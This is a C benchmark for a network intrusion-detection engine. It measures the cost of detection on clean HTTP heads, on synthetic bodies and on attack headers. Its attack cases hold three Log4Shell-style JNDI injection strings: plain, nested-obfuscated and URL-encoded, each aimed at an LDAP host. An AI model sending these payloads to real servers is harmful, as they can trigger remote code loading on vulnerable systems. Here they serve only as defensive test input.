/* engine_bench: what detection costs: a clean head with its fields, a clean body, an attack.
 *
 * Usage: engine_bench RULES…. Each figure is the best of five rounds, in a release build on an idle
 * machine. "scan" is the bare scan of the same bytes by the same database. */
#include "sensor/base/clock.h"
#include "sensor/base/sbuf.h"
#include "signatures/detect.h"
#include "signatures/engine_parts.h"

#include <stdio.h>
#include <stdlib.h>

enum { ROUNDS = 5 };

struct bench {
    struct engine *engine;
    struct detector *detector;
    struct stats stats;
    struct conn conn;
    struct tx tx;
    size_t n_found;
};

static void on_found(void *ctx, struct tx *tx, struct finding *finding)
{
    struct bench *b = ctx;
    (void)tx;
    (void)finding;
    b->n_found++;
}

static const char head[] =
    "GET /shop/article/4711?color=blue&size=xl&page=2 HTTP/1.1\r\n"
    "Host: shop.example\r\n"
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\n"
    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
    "Accept-Language: en-US,en;q=0.5\r\n"
    "Accept-Encoding: gzip, deflate, br\r\n"
    "Referer: https://shop.example/shop/list?page=1\r\n"
    "Connection: keep-alive\r\n"
    "Cookie: session=8f2b1c0d9e7a4f3b; theme=dark\r\n\r\n";

static const enum field_id fields[] = {
    FIELD_HTTP_METHOD,     FIELD_HTTP_URI_RAW,     FIELD_HTTP_URI,        FIELD_HTTP_PROTOCOL,
    FIELD_HTTP_HOST_RAW,   FIELD_HTTP_HOST,        FIELD_HTTP_USER_AGENT, FIELD_HTTP_ACCEPT,
    FIELD_HTTP_ACCEPT_ENC, FIELD_HTTP_ACCEPT_LANG, FIELD_HTTP_REFERER,    FIELD_HTTP_COOKIE,
};

/* A head and a dozen fields in it, as a decoder emits them. */
static void give_head(struct bench *b, struct span bytes)
{
    const struct region r = {.kind = REGION_HEAD, .field = FIELD_HTTP_HEADER, .bytes = bytes};
    detect_region(b->detector, &b->tx, &r);
    size_t step = bytes.len / (ARRAY_LEN(fields) + 1);
    for (size_t i = 0; i < ARRAY_LEN(fields); i++) {
        const struct field f = {.id = fields[i], .value = span_sub(bytes, i * step, step)};
        detect_field(b->detector, &b->tx, &f);
    }
    const struct field block = {.id = FIELD_HTTP_HEADER, .value = bytes};
    detect_field(b->detector, &b->tx, &block);
}

static void end_tx(struct bench *b)
{
    detect_tx_end(b->detector, &b->tx);
    arena_reset(b->tx.arena);
}

static bool on_hit(void *ctx, uint32_t pattern, uint64_t end)
{
    size_t *n = ctx;
    (void)pattern;
    (void)end;
    (*n)++;
    return true;
}

static double best(double a, double b)
{
    return a == 0 || b < a ? b : a;
}

static double per(uint64_t start_us, size_t n)
{
    return (double)(clock_monotonic_us() - start_us) * 1000.0 / (double)n;
}

static void measure_heads(struct bench *b)
{
    enum { N = 200000 };
    struct span bytes = span_str(head);
    double whole = 0;
    double scan = 0;
    size_t hits = 0;
    struct match_scratch *scratch = NULL;
    if (match_scratch_fit(&scratch, b->engine->gate) < 0) {
        return;
    }
    for (int round = 0; round < ROUNDS; round++) {
        uint64_t start = clock_monotonic_us();
        for (int i = 0; i < N; i++) {
            give_head(b, bytes);
        }
        whole = best(whole, per(start, N));
        start = clock_monotonic_us();
        for (int i = 0; i < N; i++) {
            match_block(b->engine->gate, scratch, bytes, on_hit, &hits);
        }
        scan = best(scan, per(start, N));
    }
    printf("clean head of %zu bytes, %zu fields: %.0f ns, of it scan %.0f ns (%zu hits)\n",
           bytes.len, ARRAY_LEN(fields) + 1, whole, scan, hits / ROUNDS / N);
    match_scratch_free(&scratch);
}

/* Prose without anything that opens. */
static void fill_prose(struct sbuf *text, size_t len)
{
    static const char *const words[] = {"the",  "server", "sends", "a",    "page",  "of",
                                        "text", "with",   "some",  "more", "words", "in"};
    uint32_t state = 1;
    while (text->len < len) {
        state = state * 1664525 + 1013904223;
        sbuf_add_str(text, words[(state >> 16) % ARRAY_LEN(words)]);
        sbuf_add_byte(text, state >> 28 == 0 ? '\n' : ' ');
    }
}

/* Markup and script as pages are full of. */
static void fill_page(struct sbuf *text, size_t len)
{
    uint32_t state = 7;
    while (text->len < len) {
        state = state * 1664525 + 1013904223;
        fill_prose(text, text->len + 40);
        switch (state >> 29) {
        case 0:
            sbuf_add_str(text, "<div class=\"a\" id=\"x1\"><a href=\"/p?a=1&amp;b=2\">");
            break;
        case 1:
            sbuf_add_str(text, "</a></div>&nbsp;&#8211; ");
            break;
        case 2:
            sbuf_add_str(text, "function f(a){return `${a.b}/${c}`;}\n");
            break;
        case 3:
            sbuf_add_str(text, "{\"name\":\"caf\\u00e9\",\"url\":\"https:\\/\\/x%20y\"},");
            break;
        default:
            sbuf_add_str(text, "var x = document.getElementById('id');\n");
            break;
        }
    }
}

static void give_body(struct bench *b, struct span text, size_t piece)
{
    struct region r = {.kind = REGION_BODY,
                       .field = FIELD_HTTP_RESPONSE_BODY,
                       .dir = TO_CLIENT,
                       .flags = REGION_FIRST};
    while (text.len > 0) {
        r.bytes = span_head(text, piece);
        text = span_from(text, piece);
        r.flags |= text.len == 0 ? (unsigned)REGION_LAST : 0;
        detect_region(b->detector, &b->tx, &r);
        r.flags = 0;
    }
}

static void measure_body(struct bench *b, const char *what, struct span text, size_t piece)
{
    double ns = 0;
    uint64_t evaluations = 0;
    for (int round = 0; round < ROUNDS; round++) {
        uint64_t before = stats_get(&b->stats, STAT_EVALUATIONS);
        uint64_t start = clock_monotonic_us();
        give_body(b, text, piece);
        end_tx(b);
        ns = best(ns, per(start, 1));
        evaluations = stats_get(&b->stats, STAT_EVALUATIONS) - before;
    }
    printf("%s in pieces of %zu: %.2f GB/s, %llu evaluations in %zu KiB\n", what, piece,
           (double)text.len / ns, (unsigned long long)evaluations, text.len >> 10);
}

static void measure_attack(struct bench *b, const char *what, const char *value)
{
    enum { N = 2000 };
    double ns = 0;
    size_t found = 0;
    struct sbuf text = sbuf_with_cap(1 << 16);
    sbuf_add(&text, span_head(span_str(head), sizeof(head) - 3));
    sbuf_add_format(&text, "X-Api-Version: %s\r\n\r\n", value);
    struct span bytes = sbuf_span(&text);
    size_t at = span_find(bytes, 0, span_str(value));
    const struct region r = {.kind = REGION_HEAD, .field = FIELD_HTTP_HEADER, .bytes = bytes};
    const struct field f = {.id = FIELD_HTTP_REQUEST_HEADER,
                            .item = SPAN("x-api-version"),
                            .value = span_sub(bytes, at, span_str(value).len)};
    const struct field block = {.id = FIELD_HTTP_HEADER, .value = bytes};
    for (int round = 0; round < ROUNDS; round++) {
        b->n_found = 0;
        uint64_t start = clock_monotonic_us();
        for (int i = 0; i < N; i++) {
            detect_region(b->detector, &b->tx, &r);
            detect_field(b->detector, &b->tx, &f);
            detect_field(b->detector, &b->tx, &block);
            end_tx(b);
        }
        ns = best(ns, per(start, N));
        found = b->n_found / N;
    }
    printf("%s: %.1f us, %zu found\n", what, ns / 1000.0, found);
    sbuf_free(&text);
}

static int run(struct bench *b)
{
    struct sbuf prose = sbuf_with_cap(1 << 26);
    struct sbuf page = sbuf_with_cap(1 << 26);
    fill_prose(&prose, 1 << 24);
    fill_page(&page, 1 << 24);
    printf("gate: %u openers, %u rules, %zu bytes a stream\n", (unsigned)b->engine->n_openers,
           (unsigned)engine_n_loaded(b->engine), match_db_stream_size(b->engine->gate));
    measure_heads(b);
    measure_body(b, "prose", sbuf_span(&prose), 1448);
    measure_body(b, "prose", sbuf_span(&prose), 16384);
    measure_body(b, "page", sbuf_span(&page), 1448);
    measure_body(b, "page", sbuf_span(&page), 16384);
    measure_attack(b, "plain attack", "${jndi:ldap://203.0.113.9:1389/a}");
    measure_attack(b, "nested attack",
                   "${${lower:j}${upper:n}${::-d}${env:X:-i}:${lower:l}dap://203.0.113.9/a}");
    measure_attack(b, "encoded attack", "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D");
    sbuf_free(&prose);
    sbuf_free(&page);
    return EXIT_SUCCESS;
}

int main(int argc, char **argv)
{
    static const struct decoder http = {.name = "http"};
    struct bench b = {.conn = {.proto = IP_PROTO_TCP, .state = CONN_ESTABLISHED}};
    const struct engine_options options = {.files = (const char *const *)(argv + 1),
                                           .n_files = (size_t)(argc - 1)};
    const struct detect_limits limits = detect_limits_default();
    const struct detect_user user = {.found = on_found, .ctx = &b};
    struct errbuf err = {0};
    b.tx = (struct tx){.conn = &b.conn, .decoder = &http, .arena = arena_new(1 << 24)};
    if (engine_new(&options, &b.engine, &err) == 0) {
        b.detector = detector_new(b.engine, &limits, &b.stats, &user);
    }
    int result = EXIT_FAILURE;
    if (b.detector != NULL && b.tx.arena != NULL) {
        result = run(&b);
    } else {
        fprintf(stderr, "engine_bench: %s", errbuf_text(&err));
    }
    detector_free(&b.detector);
    engine_unref(&b.engine);
    arena_free(&b.tx.arena);
    errbuf_free(&err);
    return result;
}
